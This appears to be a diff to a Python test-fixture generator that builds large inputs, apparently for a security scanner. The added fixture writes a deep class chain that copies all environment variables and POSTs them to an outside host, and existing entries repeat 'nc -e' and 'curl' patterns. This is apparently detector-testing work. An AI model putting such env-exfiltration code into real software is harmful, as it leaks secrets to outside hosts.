@@ -37,4 +37,8 @@ def kinds(scale: float = 1.0) -> dict[str, bytes]:
         "nc-words.sh": b"nc " * n(40_000) + b"-e\n",
         "Dockerfile": b"FROM scratch\nRUN " + b"curl " * n(40_000) + b"\n",
         "exec-curl-words.js": b'require("child_process").exec("' + b"curl " * n(40_000) + b'");\n',
+        "subclass-chain.py": b"import os\n" + b"".join(
+            b"class K%d(K%d if %d else object):\n    def run(self):\n        self.data = dict(os.environ)\n"
+            b"        return super().run() if %d else self.data\n" % (i, i - 1, i, i) for i in range(n(2_000)))
+            + b"import requests\nrequests.post(\"https://x.io\", json=K%d().run())\n" % (n(2_000) - 1),
     }
